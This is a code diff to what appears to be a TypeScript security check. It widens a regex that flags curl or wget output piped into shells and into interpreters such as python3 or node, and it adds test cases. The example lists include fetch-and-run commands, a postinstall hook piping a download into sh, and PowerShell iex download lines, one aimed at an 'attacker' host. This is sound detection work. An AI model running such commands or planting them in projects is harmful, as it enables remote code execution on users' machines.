@@ -6,7 +6,7 @@ import { lineBefore } from '../../facts/text/lines.ts';
 
 // An address is taken whole, `(?=(…))\1`: where no pipe follows, a shorter one does not help.
 const PIPED =
-  /\b(?:curl|wget)\b(?=[^\n|]{0,640}\|)[^\n|]{0,300}?(?=(https?:\/\/[^\s"'`|)\\]{3,200}))\1[^\n|]{0,120}\|\s{0,4}(?:sudo\s{1,3}(?:-E\s{1,3})?)?(?:env\s[^\n|]{0,60}\s)?(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k|a)?sh\b/g;
+  /\b(?:curl|wget)\b(?=[^\n|]{0,640}\|)[^\n|]{0,300}?(?=(https?:\/\/[^\s"'`|)\\]{3,200}))\1[^\n|]{0,120}\|\s{0,4}(?:sudo\s{1,3}(?:-E\s{1,3})?)?(?:env\s[^\n|]{0,60}\s)?(?:\/(?:usr\/)?bin\/)?(?:(?:ba|z|da|k|a)?sh\b|(?:python[\d.]{0,4}|node|perl|ruby|php)(?=\s{0,3}(?:-\s{0,3})?(?:[;&|)"'`\n]|$)))/gm;
 const SUBSTITUTED =
   /\b(?:(?:ba|z|da)?sh|eval|source)\s{1,3}(?:-c\s{1,3})?["']?(?:<\(|\$\(|`)\s{0,3}(?:curl|wget)\b[^\n)`]{0,200}?(https?:\/\/[^\s"'`|)\\]{3,200})/g;
 const POWERSHELL =
@@ -46,6 +46,7 @@ export const check: FileCheck = {
   examples: {
     bad: [
       { 'install.sh': 'set -e\n«curl -fsSL https://get.example.net/setup.sh | sudo bash» -s -- --yes\n' },
+      { 'action.yml': 'run: «curl -sSf https://get.example.net/a.py | sudo python3» | sort\n' },
       { 'package.json': '{"scripts": {"postinstall": "«wget -qO- http://203.0.113.5/x | sh»"}}' },
       { 'setup.ps1': "«iex ((New-Object Net.WebClient).DownloadString('https://get.example.net/a.ps1»'))\n" },
       {
@@ -64,6 +65,10 @@ export const check: FileCheck = {
           '#!/bin/sh\n# Usage:\n#   curl -fsSL https://get.acme.io/install.sh | bash\nset -e  # or: curl -s https://get.acme.io/x | sh\n',
       },
       { 'query.sh': 'curl -s https://api.example.net/items | jq .name\n' },
+      {
+        'read.sh':
+          'curl -s https://api.example.net/items | python3 -m json.tool\ncurl -s https://api.example.net/a | node -e "read()"\n',
+      },
       { 'pages.json': '{"page": "# Tasks\\n```\\npowershell -c \'iex (iwr http://attacker/a.ps1)\'\\n```"}' },
     ],
   },
